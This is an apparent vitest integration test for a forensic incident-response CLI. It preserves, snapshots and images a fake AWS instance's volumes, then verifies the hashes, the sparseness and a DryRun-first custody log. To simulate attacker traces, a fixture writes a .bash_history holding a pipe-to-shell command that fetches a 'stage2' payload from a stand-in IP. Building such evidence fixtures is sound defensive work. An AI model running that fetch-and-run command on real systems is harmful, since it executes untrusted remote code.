/**
 * Issue 3's full flow through the CLI door only (dist/main/cli.cjs, one process per command) against
 * the AWS fake: connect, discover, instance, preflight, preserve (refused without --confirm, then
 * confirmed), snapshot both volumes of web-1, image each snapshot. The web server's root volume
 * serves a `mkfs.ext4 -d` file system, its data volume a sparse image with a few scattered written
 * blocks; each image's hashes equal coreutils' digests of the served file, the sparse image keeps
 * its holes, the chain verifies and every mutating call the fake saw was DryRun first and is in
 * the custody log by its request id.
 */
import fs from 'node:fs';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { execFileSync, spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EBS_BLOCK_SIZE, FIXTURE, VICTIM_ACCOUNT_ID, startAwsFake, type AwsFake, type CallRecord } from '../aws-fake/index.js';
import type { AwsConnection, AwsDiscovery, AwsInstanceDetail, AwsPreflight } from '../../shared/contract-aws.js';
import type { AwsPreserveResult, AwsSnapshotRef } from '../../shared/contract-aws-preserve.js';
import type { CustodyEvent } from '../../shared/types.js';
import { removeTree, tempDir } from '../support/app-harness.js';
import { writeAwsProfiles } from '../support/aws-case.js';
import { ensureCliBundle, runCli, type CliWorkstation } from '../support/cli-bundle.js';
import { coreutilsDigest } from '../support/evidence-files.js';

const MIB = 1024 * 1024;
const GIB = 1024 * MIB;
const missing = ['mkfs.ext4', 'sha256sum', 'md5sum'].filter((t) => spawnSync('sh', ['-c', `command -v ${t}`]).status !== 0);
if (missing.length > 0) console.warn(`aws-flow-cli: skipped, ${missing.join(', ')} not installed (apt-get install e2fsprogs coreutils)`);

/** EC2 actions that change the account; everything else the flow sends only reads. */
const MUTATING = /^(Create|Modify|Revoke|Authorize|Copy|Lock|Delete|Attach|Detach|Stop|Terminate|Start|Run)/;

/** A 1 GiB volume (EBS's smallest) formatted whole with `mkfs.ext4 -d` from a small tree. */
function buildExt4Volume(dir: string): string {
  const tree = path.join(dir, 'tree');
  fs.mkdirSync(path.join(tree, 'etc'), { recursive: true });
  fs.mkdirSync(path.join(tree, 'var', 'log'), { recursive: true });
  fs.mkdirSync(path.join(tree, 'home', 'ec2-user'), { recursive: true });
  fs.writeFileSync(path.join(tree, 'etc', 'hostname'), 'web-1\n');
  fs.writeFileSync(path.join(tree, 'var', 'log', 'secure'), 'Accepted publickey for ec2-user from 203.0.113.9 port 50122 ssh2\n'.repeat(40));
  fs.writeFileSync(path.join(tree, 'home', 'ec2-user', '.bash_history'), 'curl -s http://198.51.100.7/stage2 | sh\n');
  const img = path.join(dir, 'root.img');
  fs.closeSync(fs.openSync(img, 'w'));
  fs.truncateSync(img, GIB);
  execFileSync('mkfs.ext4', ['-q', '-F', '-L', 'web-root', '-d', tree, img], { stdio: 'pipe' });
  return img;
}

/**
 * A 1 GiB sparse volume: holes except a few 4 KiB random writes at scattered offsets (one straddling
 * two EBS blocks, one in the last block). Returns the file and the EBS block indexes it touches.
 */
function buildSparseVolume(dir: string): { file: string; blocks: number[] } {
  const file = path.join(dir, 'data.img');
  fs.closeSync(fs.openSync(file, 'w'));
  fs.truncateSync(file, GIB);
  const offsets = [0, 3 * MIB + 100, 10 * EBS_BLOCK_SIZE - 2048, 100 * MIB, 333 * MIB + 12345, 700 * MIB, GIB - 4096];
  const blocks = new Set<number>();
  const fd = fs.openSync(file, 'r+');
  try {
    for (const off of offsets) {
      fs.writeSync(fd, randomBytes(4096), 0, 4096, off);
      blocks.add(Math.floor(off / EBS_BLOCK_SIZE)).add(Math.floor((off + 4095) / EBS_BLOCK_SIZE));
    }
  } finally {
    fs.closeSync(fd);
  }
  return { file, blocks: [...blocks].sort((a, b) => a - b) };
}

/** The fake's calls that changed the account (DryRuns excluded). */
const mutations = (calls: readonly CallRecord[]) => calls.filter((c) => c.service === 'ec2' && MUTATING.test(c.action) && !c.dryRun);

/** Whether two files hold the same bytes (cheaper than hashing the stored image again: it equals the hashed source). */
function sameBytes(a: string, b: string): boolean {
  const [fa, fb] = [fs.openSync(a, 'r'), fs.openSync(b, 'r')];
  const [ba, bb] = [Buffer.alloc(8 * MIB), Buffer.alloc(8 * MIB)];
  try {
    for (let pos = 0; ; pos += ba.length) {
      const [na, nb] = [fs.readSync(fa, ba, 0, ba.length, pos), fs.readSync(fb, bb, 0, bb.length, pos)];
      if (na !== nb || !ba.subarray(0, na).equals(bb.subarray(0, nb))) return false;
      if (na === 0) return true;
    }
  } finally {
    fs.closeSync(fa);
    fs.closeSync(fb);
  }
}

const withoutDryRun = (p: Record<string, string>) => Object.fromEntries(Object.entries(p).filter(([k]) => k !== 'DryRun'));

describe.skipIf(missing.length > 0)('the AWS flow through the CLI door', () => {
  let root = '';
  let ws: CliWorkstation;
  let fake: AwsFake;
  let folder = '';
  let target: string[] = [];
  let ext4 = '';
  let sparse: { file: string; blocks: number[] };
  let digests: Promise<Record<string, { sha256: string; md5: string }>>;
  const snapshotOf = new Map<string, string>();

  beforeAll(async () => {
    ensureCliBundle();
    root = tempDir('aws-flow-cli-');
    ws = { userData: path.join(root, 'user-data'), casesDir: path.join(root, 'cases') };
    ext4 = buildExt4Volume(root);
    sparse = buildSparseVolume(root);
    // The reference digests run while the CLI works.
    digests = Promise.all(
      [ext4, sparse.file].map(async (f) => {
        const [sha256, md5] = await Promise.all([coreutilsDigest('sha256sum', f), coreutilsDigest('md5sum', f)]);
        return [f, { sha256, md5 }] as const;
      }),
    ).then(Object.fromEntries);
    // Handled here so a failing tool is reported by the test that awaits it, not as an unhandled rejection.
    digests.catch(() => undefined);
    // The CLI children inherit the environment this sets.
    writeAwsProfiles(root);
    fake = await startAwsFake({ snapshotCompletionMs: 500 });
    for (const [vol, img] of [[FIXTURE.webRootVolumeId, ext4], [FIXTURE.webDataVolumeId, sparse.file]] as const) {
      fake.state.volumes.get(vol)!.sizeGiB = 1;
      fake.state.setVolumeImage(vol, img);
    }
    await runCli(ws, ['profile', '--name', 'Cli Examiner', '--org', 'Test IR Ltd']);
    folder = (JSON.parse(await runCli(ws, ['create', '--json', '--number', 'CLI-FLOW', '--title', 'web-1 through the CLI'])) as { path: string }).path;
    target = ['--profile', 'victim', '--region', 'us-east-1', '--endpoint', fake.endpoint];
  });

  afterAll(async () => {
    await digests?.catch(() => undefined);
    await fake?.close();
    if (root) removeTree(root);
  });

  it('connects, discovers the instance with its volumes, describes it and checks permissions', async () => {
    const conn = JSON.parse(await runCli(ws, ['aws-connect', folder, ...target, '--json'])) as AwsConnection;
    expect(conn.account).toBe(VICTIM_ACCOUNT_ID);

    const d = JSON.parse(await runCli(ws, ['aws-discover', folder, ...target, '--json'])) as AwsDiscovery;
    const region = d.regions.find((r) => r.region === 'us-east-1')!;
    const web = region.instances!.items.find((i) => i.instanceId === FIXTURE.webInstanceId)!;
    expect(web.volumes.map((v) => v.volumeId).sort()).toEqual([FIXTURE.webRootVolumeId, FIXTURE.webDataVolumeId].sort());
    const vols = region.volumes!.items.filter((v) => v.volumeId === FIXTURE.webRootVolumeId || v.volumeId === FIXTURE.webDataVolumeId);
    expect(vols.map((v) => v.sizeGiB)).toEqual([1, 1]);

    const inst = JSON.parse(await runCli(ws, ['aws-instance', folder, ...target, '--instance', FIXTURE.webInstanceId, '--json'])) as AwsInstanceDetail;
    expect(inst.summary.instanceId).toBe(FIXTURE.webInstanceId);
    expect(inst.volumes.ok && inst.volumes.value.map((v) => v.volumeId).sort()).toEqual([FIXTURE.webRootVolumeId, FIXTURE.webDataVolumeId].sort());

    const p = JSON.parse(await runCli(ws, ['aws-preflight', folder, ...target, '--instance', FIXTURE.webInstanceId, '--json'])) as AwsPreflight;
    // The DryRun-able actions are allowed; EBS direct reads have no DryRun, so imaging may only be 'unknown'.
    const outcomes = Object.fromEntries(p.results.map((r) => [r.action, r.outcome]));
    expect(outcomes).toMatchObject({ tag: 'allowed', protect: 'allowed', snapshot: 'allowed', isolate: 'allowed' });
    expect(Object.values(outcomes)).not.toContain('denied');
    expect(mutations(fake.calls)).toEqual([]);
  });

  it('refuses aws-preserve without --confirm and sends nothing to EC2', async () => {
    const before = fake.calls.length;
    await expect(runCli(ws, ['aws-preserve', folder, ...target, '--instance', FIXTURE.webInstanceId, '--tag', '--protect', '--keep-volumes'])).rejects.toThrow(/INVALID_INPUT.*Confirm it/);
    // Only the connection's identity check (STS) reached the fake: not even a DryRun.
    expect(fake.calls.slice(before).filter((c) => c.service !== 'sts')).toEqual([]);
    const web = fake.state.instances.get(FIXTURE.webInstanceId)!;
    expect(web.disableApiTermination).toBe(false);
    expect(web.blockDevices.map((b) => b.deleteOnTermination)).toEqual([true, true]);
    expect(web.tags.some((t) => t.key === 'CasewardCase')).toBe(false);
  });

  it('preserves with --confirm and snapshots both volumes, waiting for completion', async () => {
    const inst = ['--instance', FIXTURE.webInstanceId];
    const r = JSON.parse(await runCli(ws, ['aws-preserve', folder, ...target, ...inst, '--tag', '--protect', '--keep-volumes', '--confirm', '--json'])) as AwsPreserveResult;
    expect(r.results.map((x) => x.outcome)).toEqual(['done', 'done', 'done']);
    const web = fake.state.instances.get(FIXTURE.webInstanceId)!;
    expect(web.disableApiTermination).toBe(true);
    expect(web.blockDevices.map((b) => b.deleteOnTermination)).toEqual([false, false]);
    expect(web.tags).toContainEqual({ key: 'CasewardCase', value: 'CLI-FLOW' });

    const snaps = JSON.parse(await runCli(ws, ['aws-snapshot', folder, ...target, ...inst, '--confirm', '--json'])) as AwsSnapshotRef[];
    expect(snaps.map((s) => s.state)).toEqual(['completed', 'completed']);
    for (const s of snaps) snapshotOf.set(s.volumeId!, s.snapshotId);
    expect([...snapshotOf.keys()].sort()).toEqual([FIXTURE.webRootVolumeId, FIXTURE.webDataVolumeId].sort());
    expect(fake.state.callsFor('CreateSnapshots').filter((c) => !c.dryRun)).toHaveLength(1);
  });

  type Artifact = { state: string; sourcePath: string; storedPath: string; size: number; hashes: { sha256: string; md5: string } };
  const image = async (volumeId: string): Promise<{ a: Artifact; stored: string; snapshotId: string }> => {
    const snapshotId = snapshotOf.get(volumeId)!;
    const a = JSON.parse(await runCli(ws, ['aws-image', folder, ...target, '--snapshot', snapshotId, '--json'])) as Artifact;
    expect(a.state).toBe('complete');
    expect(a.sourcePath).toBe(`aws:ebs:us-east-1:${VICTIM_ACCOUNT_ID}:${snapshotId}`);
    expect(a.size).toBe(GIB);
    return { a, stored: path.join(folder, a.storedPath), snapshotId };
  };

  it('images the ext4 volume: SHA-256 and MD5 equal sha256sum and md5sum of the served file', async () => {
    const { a, stored } = await image(FIXTURE.webRootVolumeId);
    const want = (await digests)[ext4]!;
    expect(a.hashes.sha256).toBe(want.sha256);
    expect(a.hashes.md5).toBe(want.md5);
    expect(sameBytes(stored, ext4)).toBe(true);
  });

  it('images the sparse volume: only its written blocks are fetched and the image keeps its holes', async () => {
    const { a, stored, snapshotId } = await image(FIXTURE.webDataVolumeId);
    const want = (await digests)[sparse.file]!;
    expect(a.hashes.sha256).toBe(want.sha256);
    expect(a.hashes.md5).toBe(want.md5);
    expect(sameBytes(stored, sparse.file)).toBe(true);
    // ListSnapshotBlocks listed only the written blocks, so only those were fetched.
    expect([...fake.faults.blockFetchCounts(snapshotId).keys()].sort((x, y) => x - y)).toEqual(sparse.blocks);
    // Allocated bytes (st_blocks, as du counts them): the fetched blocks at most, not the 1 GiB.
    const bound = (sparse.blocks.length + 1) * EBS_BLOCK_SIZE;
    if (fs.statSync(sparse.file).blocks * 512 > bound) {
      console.warn(`aws-flow-cli: ${root} does not keep holes; the sparseness check is skipped`);
      return;
    }
    const allocated = fs.statSync(stored).blocks * 512;
    expect(allocated).toBeGreaterThan(0);
    expect(allocated).toBeLessThanOrEqual(bound);
  });

  it('verifies the chain; every mutating call was DryRun first and is in custody by its request id', async () => {
    expect(await runCli(ws, ['verify-chain', folder])).toContain('OK');
    const events = JSON.parse(await runCli(ws, ['custody', folder, '--json'])) as CustodyEvent[];
    const recorded = events.map((e) => JSON.stringify(e.details));
    const changed = mutations(fake.calls);
    // CreateTags, protection, keep-volumes, CreateSnapshots.
    expect(changed.map((c) => c.action)).toEqual(['CreateTags', 'ModifyInstanceAttribute', 'ModifyInstanceAttribute', 'CreateSnapshots']);
    for (const c of changed) {
      expect(c.status, `${c.action} ${c.requestId}`).toBe(200);
      expect(recorded.some((d) => d.includes(`"${c.requestId}"`)), `custody holds ${c.action} ${c.requestId}`).toBe(true);
      const dry = fake.calls.find((d) => d.seq < c.seq && d.dryRun && d.action === c.action && JSON.stringify(withoutDryRun(d.params)) === JSON.stringify(withoutDryRun(c.params)));
      expect(dry?.errorCode, `${c.action} ${c.requestId} DryRun first`).toBe('DryRunOperation');
    }
    const actions = events.map((e) => e.action);
    for (const a of ['aws.tagged', 'aws.termination-protected', 'aws.delete-on-termination-disabled', 'aws.snapshots-created']) expect(actions).toContain(a);
    expect(actions.filter((a) => a === 'aws.snapshot-completed')).toHaveLength(2);
  });
});
